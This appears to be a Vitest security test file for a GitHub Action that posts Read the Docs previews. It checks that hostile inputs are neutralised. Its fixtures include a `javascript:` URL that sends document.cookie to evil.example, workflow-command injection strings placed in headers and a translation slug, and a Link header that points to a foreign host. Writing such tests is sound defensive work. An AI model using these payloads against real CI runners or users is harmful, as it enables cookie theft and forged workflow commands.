// Issue 21's "Done when" for the GitHub side and the service's names and links, through dist/ as the
// runner runs it: a templated foreign `Link` on the comment list sends nothing to the other host;
// Octokit's deprecation warning (header text) never reaches stderr for the runner to act on; a
// translation slug carrying workflow commands prints inert; a `javascript:` build URL never reaches
// a status or deployment. What the runner would do with the output is read through its model
// (runner-commands.ts), on stdout and stderr alike (the runner reads commands from both).
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startGitHubStandin, type GitHubStandin } from '../../harness/github-standin.ts';
import { HEAD, PR, pullRequestEvent, runPreview, TOKEN } from '../support/preview-e2e.ts';
import { startStandin, type Standin } from '../../harness/rtd-standin.ts';
import { GITHUB_TOKEN, type ActionRun } from '../../harness/run-action.ts';
import { runnerCommands, type RunnerCommand } from '../support/runner-commands.ts';
import { answers, scriptedServer, type ScriptedServer } from '../support/scripted-server.ts';

let rtd: Standin;
let gh: GitHubStandin;
let elsewhere: ScriptedServer;

beforeEach(async () => {
  rtd = await startStandin({ tokens: [TOKEN] });
  rtd.addProject({ slug: 'demo', name: 'Demo Docs', versions: [{ slug: String(PR), type: 'external' }] });
  gh = await startGitHubStandin({ token: GITHUB_TOKEN });
  gh.addPullRequest({ number: PR, headSha: HEAD });
  elsewhere = await scriptedServer([answers.json(200, [])]);
});
afterEach(async () => {
  await Promise.all([rtd.close(), gh.close(), elsewhere.close()]);
});

function seedBuild(project = 'demo', outcome: 'success' | 'failure' = 'success'): number {
  return rtd.addBuild(project, String(PR), { durationMs: 800, outcome, commit: HEAD, commitFromStart: true });
}

function preview(extra: Record<string, string> = {}): Promise<ActionRun> {
  return runPreview({ rtd, gh }, pullRequestEvent(), extra);
}

/** Commands the runner acts on that the action did not mean: anything but its masks, groups, fences and own annotations. */
function foreign(text: string, ownTitles: string[] = []): RunnerCommand[] {
  return runnerCommands(text).filter((command) => {
    if (command.command === 'add-mask') return command.data !== TOKEN && command.data !== GITHUB_TOKEN;
    if (['group', 'endgroup', 'stop-commands', 'debug'].includes(command.command)) return false;
    if (['error', 'warning', 'notice'].includes(command.command)) return !ownTitles.includes(command.properties.title ?? '');
    return true;
  });
}

describe('hostile GitHub answers', () => {
  it('a templated `Link` to another host on the comment list: nothing is sent there, the statuses still report', async () => {
    gh.addHeaders('GET', /\/issues\/\d+\/comments$/, {
      link: `<{+x}${elsewhere.url}/repos/octo/docs-repo/issues/${PR}/comments?page=2>; rel="next"`,
    });
    seedBuild();
    const run = await preview();

    expect(run.code, run.stdout).toBe(0);
    expect(elsewhere.hits).toEqual([]);
    expect(gh.count('GET', `/issues/${PR}/comments`)).toBeGreaterThan(0);
    const refused = run.annotations.find((a) => a.level === 'warning' && a.message.includes('not followed'));
    expect(refused?.message).toContain('a link to a page outside the GitHub API was not followed');
    expect(gh.statuses(HEAD).at(-1)).toMatchObject({ state: 'success', context: 'readthedocs-preview/demo' });
  });

  it("Octokit's deprecation warning carrying `##[…]` header text: nothing on stderr or stdout for the runner to act on", async () => {
    const hostile = {
      deprecation: 'true',
      sunset: `##[add-mask]${HEAD} ##[set-output name=preview-url]https://evil.example/`,
      link: '<https://example.com/##[error]forged>; rel="deprecation"',
    };
    for (const method of ['GET', 'POST', 'PATCH']) gh.addHeaders(method, /./, hostile);
    seedBuild();
    const run = await preview();

    expect(run.code, run.stdout).toBe(0);
    expect(run.stderr).not.toContain('##[');
    expect(foreign(run.stderr)).toEqual([]);
    expect(foreign(run.stdout)).toEqual([]);
    expect(run.outputs['preview-url']).not.toContain('evil');
  });
});

describe("the service's names and links", () => {
  it('a translation slug carrying workflow commands prints inert: left out with a warning, the runner acts on none of it', async () => {
    const forged = 'demo-fr\n::error title=Forged::forged by the service\n::add-mask::Docs\n##[add-mask]Preview';
    for (const slug of ['demo-ja', forged]) {
      rtd.addProject({
        slug,
        name: 'Translation',
        language: 'ja',
        translationOf: 'demo',
        versions: [{ slug: String(PR), type: 'external' }],
      });
      seedBuild(slug);
    }
    seedBuild();
    const run = await preview({ translations: 'true' });

    expect(run.code, run.stdout).toBe(0);
    expect(foreign(run.stdout, ['Translation left out'])).toEqual([]);
    expect(foreign(run.stderr)).toEqual([]);
    const left = run.annotations.filter((a) => a.title === 'Translation left out');
    expect(left).toHaveLength(1);
    expect(left[0]!.message).toContain('is not a project slug');
    const results = JSON.parse(run.outputs.results!) as { project: string }[];
    expect(results.map((r) => r.project)).toEqual(['demo', 'demo-ja']);
    expect(
      gh
        .deployments()
        .map((d) => d.environment)
        .sort(),
    ).toEqual(['readthedocs-preview/demo', 'readthedocs-preview/demo-ja']);
  });

  it('a `javascript:` build URL never reaches a status, a deployment, the comment, the summary or the outputs', async () => {
    const hostile = 'javascript:fetch(`//evil.example/`+document.cookie)//';
    const own = `${rtd.url}/projects/demo/builds/`;
    rtd.fault({ kind: 'rewrite', path: '/builds/', times: 10_000, transform: (body) => body.replaceAll(own, hostile) });
    seedBuild('demo', 'failure');
    const run = await preview();

    expect(run.code).toBe(1);
    const statuses = gh.statuses(HEAD);
    expect(statuses.at(-1)).toMatchObject({ state: 'failure', context: 'readthedocs-preview/demo', target_url: null });
    expect(statuses.map((s) => s.target_url)).toEqual(statuses.map(() => null));
    const deploymentStatuses = gh.deployments().flatMap((d) => d.statuses);
    expect(deploymentStatuses.map((s) => s.state)).toEqual(['in_progress', 'failure']);
    expect(deploymentStatuses.map((s) => s.log_url)).toEqual(['', '']);
    expect(gh.requests.map((r) => r.body).join('\n')).not.toContain('javascript:');
    expect(run.summary).not.toContain('javascript:');
    expect(run.outputs['build-url']).toBe('');
    expect(run.outputs.results).not.toContain('javascript:');
  });
});
